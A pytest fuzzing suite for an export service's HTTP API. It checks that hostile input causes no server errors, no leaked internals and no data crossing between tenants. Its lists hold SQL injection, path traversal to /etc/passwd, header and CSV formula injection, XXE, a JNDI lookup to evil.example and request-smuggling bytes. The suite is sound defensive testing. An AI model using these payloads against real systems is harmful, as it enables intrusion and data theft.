"""Thousands of hostile values through every field of every route: none breaks anything, and none is told more than it should.

`ARKHAM_HOSTILE_CASES=10000` sends so many to each host; the seed is `ARKHAM_HOSTILE_SEED`.
"""

from __future__ import annotations

import http.client
import json
import os
import random
import re
import socket
import threading
from collections import Counter
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

from arkham_shard_export.api.routes import ROUTES
from arkham_shard_export.api.schedulebodies import NewScheduleBody
from arkham_shard_export.models import ExportOptions
from arkham_shard_export.targets import TARGETS
from tests.hosts import END_SECONDS, RunningHost
from tests.tenants import MARKS, A, B, of, shared_host

CASES = int(os.environ.get("ARKHAM_HOSTILE_CASES", "2000"))
SEED = int(os.environ.get("ARKHAM_HOSTILE_SEED", "6"))
LONG = 1_000_000
MIDDLING = 2_000
"""Headers and addresses are refused by the server itself from 64 KiB on."""
BATCH = 50

INTERNAL = re.compile(
    r"Traceback|site-packages|\.py\b|psycopg|sqlite3?\.|pydantic|sqlalchemy|arkham_shard_export\.|arkham_frame\.|<class|object at 0x"
    r"|syntax error at|near \"|unrecognized token|no such (table|column)|violates|codec can't|surrogates not allowed|recursion",
    re.IGNORECASE,
)

SQL = ("' OR 1=1 --", "'; DROP TABLE arkham_export_jobs; --", "1 UNION SELECT tenant_id FROM arkham_claims", "\' OR ''='", "%' OR '%'='", "?", ":name", "%s", "$1", "{0}", "admin'/*", "1; SELECT pg_sleep(9)", "id) OR (1=1", "id DESC, (SELECT 1)", '"id"', "tenant_id", "rowid")  # fmt: skip
PATHS = ("../../../../etc/passwd", "/etc/passwd", "..\\..\\boot.ini", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "....//....//etc/passwd", "file:///etc/passwd", "\\\\host\\share", "C:\\", ".", "..", "/", "//", "~root", "/proc/self/environ", "CON", "a/../../b", "store/../..", ".arkham-export-store")  # fmt: skip
HEADERS = ("a\r\nSet-Cookie: a=b", "a\nX-User-Role: admin", "\r\n\r\nHTTP/1.1 200 OK", "a\tb", "\x7f", 'a"; filename="b', "a;b=c", "é" * 9)  # fmt: skip
FORMULAS = ("=1+1", "@SUM(A1)", "+cmd|' /C calc'!A0", "-2+3", "\t=1", '=HYPERLINK("http://evil.example")')
MARKUP = ("<script>alert(1)</script>", '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>', "&lol9;", "]]>", "<?xml version='1.0'?>", "${jndi:ldap://evil.example}", "{{7*7}}", "#set($a=1)")  # fmt: skip
SCRIPTS = ("\u202egnp.exe", "\u2066a\u2069", "\ufeffa", "a\u0000b", "\u0000", "\ud800", "a\udfffb", "\ud83d", "\U0001f4a5", "\u0661", "Z\u0351\u036b" * 40, "\uffff", "\x1b[2J", "İ", "ß")  # fmt: skip
NUMBERS: tuple[Any, ...] = (0, -1, 1, 2**31, 2**63, 2**64, -(2**63), 10**30, 10**400, 1.5, -0.0, 1e308, float("nan"), float("inf"), float("-inf"), True, False, None)  # fmt: skip
WORDS = ("pending", "json", "claims", "asc", "day", "created_at", "2026-11-22", "9999-12-31T23:59:59+14:00", "0001-01-01", "2026-11-22T00:00:00-24:00", "", " ")  # fmt: skip


PLAN = tuple(NewScheduleBody.model_fields)


class Maker:
    """Values by a seed."""

    def __init__(self, seed: int) -> None:
        self.random = random.Random(seed)

    def text(self, longest: int = MIDDLING) -> str:
        pick = self.random
        kind = pick.randrange(12)
        if kind == 0:
            return pick.choice("x'\u202e\"=é") * pick.choice((1001, longest))
        if kind == 1:
            return "".join(
                chr(pick.choice((pick.randrange(128), pick.randrange(0x11_0000))))
                for _ in range(pick.randrange(1, 30))
            )
        parts = pick.choices(
            (*SQL, *PATHS, *HEADERS, *FORMULAS, *MARKUP, *SCRIPTS, *WORDS, *MARKS.values(), A, B),
            k=pick.choice((1, 1, 1, 2, 3)),
        )
        return "".join(parts)[:longest]

    def value(self, depth: int = 0) -> Any:
        pick = self.random
        kind = pick.randrange(10)
        if kind < 5 or depth > 3:
            return self.text(LONG if depth == 0 and pick.randrange(25) == 0 else 2000)
        if kind < 7:
            return pick.choice(NUMBERS)
        if kind == 7:
            return [
                self.value(depth + 1) for _ in range(pick.choice((0, 1, 2, 5, 1200 if depth == 0 else 3)))
            ]
        if kind == 8:
            return {
                self.text(300): self.value(depth + 1)
                for _ in range(pick.choice((0, 1, 3, 150 if depth == 0 else 2)))
            }
        deep: Any = "x"
        for _ in range(pick.choice((20, 31, 40, 300, 900))):
            deep = [deep] if pick.randrange(2) else {"a": deep}
        return deep

    def request(self) -> tuple[str, str, dict[str, Any]]:
        """Method, path and what else of a request to one of the routes, with one field or more that is hostile."""
        pick = self.random
        often = [("POST", "/jobs"), ("POST", "/preview"), ("POST", "/schedules")]
        method, path = pick.choice((*CALLS, *often * (len(CALLS) // 3)))
        options: dict[str, Any] = {"headers": {}}
        with_body = BODIES_OF.get((method, path))
        if "{" in path:
            path = re.sub(
                r"\{\w+\}", lambda _: quote(self.text().encode("utf-8", "surrogatepass"), safe=""), path
            )
        elif method == "GET":
            names = (
                "status",
                "format",
                "target",
                "created_by",
                "limit",
                "offset",
                "sort",
                "order",
                self.text(50),
            )
            chosen = pick.sample(names, k=pick.choice((1, 1, 2, 3)))
            values = [self.text() if pick.randrange(3) else str(pick.choice(NUMBERS)) for _ in chosen]
            pairs = zip(chosen, values, strict=True)
            path += "?" + "&".join(
                "=".join(quote(each.encode("utf-8", "surrogatepass"), safe="") for each in pair)
                for pair in pairs
            )
        if with_body is not None:
            options["content"] = with_body(self)
            options["headers"]["Content-Type"] = pick.choice(
                ("application/json",) * 9 + ("text/plain", "application/xml; charset=utf-7")
            )
        if pick.randrange(8) == 0:
            name = pick.choice(
                (
                    "Range",
                    "If-Range",
                    "If-None-Match",
                    "Prefer",
                    "Idempotency-Key",
                    "Last-Event-ID",
                    "Accept",
                    "Content-Type",
                    "Accept-Encoding",
                    "X-Forwarded-For",
                    "Cookie",
                    "Origin",
                    "Content-Length-Of",
                )
            )
            options["headers"][name] = re.sub(
                rb"[\x00-\x1f\x7f]", b"", self.text().encode("utf-8", "replace")
            ).strip()
        return method, path, options

    def schedule(self) -> bytes:
        """Of a schedule, which is due in a year at the earliest."""
        pick = self.random
        body: dict[str, Any] = {
            "name": self.text(50),
            "cron": "0 0 29 2 *",
            "request": {"format": "json", "target": pick.choice(list(TARGETS))},
        }
        for _ in range(pick.choice((1, 1, 1, 2))):
            asked = body.get("request")
            if pick.randrange(3) == 0 and isinstance(asked, dict):
                asked[pick.choice(("format", "target", "filters", "options", self.text(60)))] = self.value()
            else:
                body[pick.choice((*PLAN, "request", self.text(60)))] = self.value()
        return json.dumps(body, ensure_ascii=bool(pick.randrange(4))).encode("utf-8", "surrogatepass")

    def body(self) -> bytes:
        return self.sent(self.asked())

    def batch(self) -> bytes:
        """Parts of which one or more are hostile, some under names that are."""
        pick = self.random
        parts: list[Any] = [self.asked() for _ in range(pick.choice((1, 2, 3)))]
        parts += [self.value() for _ in range(pick.choice((0, 0, 0, 1)))]
        for part in parts:
            if isinstance(part, dict) and pick.randrange(2):
                part["name"] = self.value() if pick.randrange(4) == 0 else self.text(100)
        body: dict[str, Any] = {"parts": parts if pick.randrange(20) else self.value()}
        if pick.randrange(5) == 0:
            body[pick.choice(("continue_on_error", "retention_hours", "format", self.text(60)))] = (
                self.value()
            )
        return self.sent(body)

    def template(self) -> bytes:
        """Of a template, or of a preview of one."""
        pick = self.random
        body = self.asked()
        body["name"] = self.text(60) if pick.randrange(2) else f"T{pick.randrange(1000)}"
        if pick.randrange(6) == 0:
            body[pick.choice(("description", "shared"))] = self.value()
        return self.sent(body)

    def asked(self) -> dict[str, Any]:
        pick = self.random
        body: dict[str, Any] = {"format": pick.choice(("json", "csv")), "target": pick.choice(list(TARGETS))}
        if pick.randrange(8) == 0:
            body["template"] = pick.choice(
                (self.text(60), self.value(), {"template": "T1", "version": self.value()})
            )
        target = TARGETS[body["target"]]
        for _ in range(pick.choice((1, 1, 1, 1, 2, 4))):
            match pick.randrange(8):
                case 0 | 1 | 2:
                    name = pick.choice((*target.filter_names, self.text(60)))
                    body.setdefault("filters", {})[name] = self.value()
                case 3 | 4 | 5:
                    name = pick.choice((*ExportOptions.__dataclass_fields__, self.text(60)))
                    body.setdefault("options", {})[name] = self.value()
                case 6:
                    body[pick.choice(("format", "target", "filters", "options"))] = self.value()
                    break
                case 7:
                    body[
                        pick.choice(
                            (
                                "retention_hours",
                                "max_preview_records",
                                "created_by",
                                "tenant_id",
                                "description",
                                "shared",
                                "template",
                                self.text(60),
                            )
                        )
                    ] = self.value()
        return body

    def sent(self, body: Any) -> bytes:
        pick = self.random
        content = json.dumps(body, ensure_ascii=bool(pick.randrange(4))).encode("utf-8", "surrogatepass")
        if pick.randrange(15) == 0:
            at = pick.randrange(len(content))
            content = content[:at] + bytes(pick.choices(range(256), k=3)) + content[at:]
        return content


CALLS = [(each.method, each.path) for each in ROUTES]
MAKERS = {"/schedules": Maker.schedule, "/templates": Maker.template, "/jobs/batch": Maker.batch}
BODIES_OF = {
    (each.method, each.path): next(
        (make for at, make in MAKERS.items() if each.path.startswith(at)), Maker.body
    )
    for each in ROUTES
    if 415 in each.refusals
}


def tree(folder: Path) -> set[str]:
    """What lies in a folder, but for the files of databases, which come and go."""
    return {
        str(path.relative_to(folder))
        for path in folder.rglob("*")
        if "exports" not in path.parts and not path.name.endswith(("-wal", "-shm", "-journal"))
    }


@pytest.fixture(scope="module", params=["standalone", "arkhamframe"])
def shared(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory, postgres_server: str
) -> Iterator[RunningHost]:
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("ARKHAM_EXPORT_MAX_REQUESTS_PER_USER", "0")
        patch.setenv("ARKHAM_EXPORT_MAX_REQUESTS_PER_TENANT", "0")
        patch.setenv("ARKHAM_EXPORT_MAX_ACTIVE_PER_USER", "0")
        with shared_host(request.param, tmp_path_factory.mktemp("hostile"), postgres_server) as host:
            yield host


@dataclass(frozen=True)
class Answer:
    status: int
    media_type: str
    body: bytes


_mine = threading.local()
_connections: list[http.client.HTTPConnection] = []


def answered(
    host: RunningHost, method: str, path: str, body: bytes | None, headers: dict[str, Any]
) -> Answer:
    """By a connection of this thread, and by nothing that would tidy up the address."""
    address = (host.client.base_url.host, host.client.base_url.port)
    if getattr(_mine, "address", None) != address:
        _mine.connection, _mine.address = http.client.HTTPConnection(*address, timeout=END_SECONDS), address
        _connections.append(_mine.connection)
    for again in (True, False):
        try:
            _mine.connection.request(method, path, body, headers)
            response = _mine.connection.getresponse()
            return Answer(response.status, response.getheader("content-type") or "", response.read())
        except (http.client.RemoteDisconnected, ConnectionError):
            # A connection that was closed after the answer before.
            _mine.connection.close()
            if not again:
                raise
    raise AssertionError


def check(host: RunningHost, asked: tuple[str, str, dict[str, Any]], other: str) -> tuple[str, int]:
    method, path, options = asked
    headers = {**of(B if other == A else A, "mallory"), **options["headers"]}
    answer = answered(host, method, f"/api/export{path}", options.get("content"), headers)
    text = answer.body.decode("utf-8", "replace")
    shown = (method, path[:300], str(options)[:800], answer.status, text[:1000])
    # A machine that is slow at this moment is no matter of what was sent.
    assert answer.status < 500 or path.startswith("/health"), shown
    assert answer.status != 429, shown
    # What was sent may be shown again, as text, and only as far as it is short.
    assert len(answer.body) < 300_000, shown
    if answer.status >= 400 and method != "HEAD":
        assert "json" in answer.media_type, shown
        detail = json.loads(text)["detail"]
        assert isinstance(detail, str), shown
        assert str(host.data_dir) not in text, shown
        found = INTERNAL.search(detail)
        assert found is None or found[0].lower() in f"{path} {options}".lower(), (found, shown)
    elif answer.status < 400:
        assert f"{MARKS[other]} " not in text, shown
    return path, answer.status


def test_hostile_values_break_nothing_and_are_told_nothing(shared: RunningHost) -> None:
    host, maker = shared, Maker(SEED)
    before, around = tree(host.data_dir), set(host.data_dir.parent.iterdir())
    rows = {
        name: host.query(f"SELECT COUNT(*) FROM arkham_{name}")
        for name in ("claims", "entities", "timeline_events")
    }
    statuses: Counter[int] = Counter()
    made = 0
    done = 0
    with ThreadPoolExecutor(4) as pool:
        while done < CASES:
            batch = [maker.request() for _ in range(min(BATCH, CASES - done))]
            others = [maker.random.choice((A, B)) for _ in batch]
            answers = [*pool.map(check, [host] * len(batch), batch, others)]
            statuses.update(status for _, status in answers)
            made += answers.count(("/jobs", 201)) + answers.count(("/jobs/batch", 201))
            done += len(batch)
    while _connections:
        _connections.pop().close()
    assert sum(statuses.values()) == CASES
    assert statuses[422] > CASES / 10, "the values reached what checks them"
    jobs = host.query("SELECT id FROM arkham_export_jobs")
    schedules = host.query("SELECT id FROM arkham_export_schedules")
    assert made == len(jobs)
    templates = host.query("SELECT id FROM arkham_export_templates")
    assert statuses[201] == made + len(schedules) + len(templates)
    for (job_id,) in jobs:
        job = host.wait(job_id)
        assert job["status"] in ("completed", "failed", "cancelled")
        found = INTERNAL.search(str(job["error"]))
        assert found is None, job
        if job["status"] == "completed":
            tenant = host.query(
                "SELECT CAST(tenant_id AS text) FROM arkham_export_jobs WHERE id = ?", (job_id,)
            )[0][0]
            text = host.client.get(job["download_url"]).text
            assert f"{MARKS[B if tenant == A else A]} " not in text
    assert tree(host.data_dir) == before
    assert set(host.data_dir.parent.iterdir()) == around
    assert rows == {name: host.query(f"SELECT COUNT(*) FROM arkham_{name}") for name in rows}
    print(f"{host.name}: {CASES} values, seed {SEED}: {dict(sorted(statuses.items()))}")  # noqa: T201


RAW = {
    "a line end in the address": b"GET /api/export/jobs\n HTTP/1.1\r\nHost: localhost\r\n\r\n",
    "NUL in the address": b"GET /api/export/jobs/a\0b HTTP/1.1\r\nHost: localhost\r\n\r\n",
    "NUL in a header": b"GET /api/export/jobs HTTP/1.1\r\nHost: localhost\r\nX-User-Id: a\0b\r\n\r\n",
    "a folded header": b"GET /api/export/jobs HTTP/1.1\r\nHost: localhost\r\nX-User-Id: a\r\n b\r\n\r\n",
    "two lengths": b"POST /api/export/jobs HTTP/1.1\r\nHost: localhost\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\n{}   ",
    "length and chunks": b"POST /api/export/jobs HTTP/1.1\r\nHost: localhost\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    "a header of a megabyte": b"GET /api/export/jobs HTTP/1.1\r\nHost: localhost\r\nX-A: "
    + b"x" * LONG
    + b"\r\n\r\n",
    "an address of a megabyte": b"GET /api/export/jobs?created_by="
    + b"x" * LONG
    + b" HTTP/1.1\r\nHost: localhost\r\n\r\n",
    "a whole address": b"GET http://evil.example/api/export/jobs HTTP/1.1\r\nHost: localhost\r\n\r\n",
    "no method": b" / HTTP/1.1\r\nHost: localhost\r\n\r\n",
    "nonsense": bytes(range(256)) * 4,
}


@pytest.mark.parametrize("sent", RAW.values(), ids=RAW)
def test_bytes_that_are_hardly_http_bring_no_host_down(shared: RunningHost, sent: bytes) -> None:
    address = (shared.client.base_url.host, shared.client.base_url.port)
    received = b""
    with socket.create_connection(address, timeout=END_SECONDS) as connection:
        try:
            connection.sendall(sent)
            connection.shutdown(socket.SHUT_WR)
            while part := connection.recv(65536):
                received += part
        except (BrokenPipeError, ConnectionResetError):
            pass
    if received:
        assert int(received.split()[1]) < 500
        assert b"Traceback" not in received
    assert shared.client.get("/api/export/count").status_code == 200
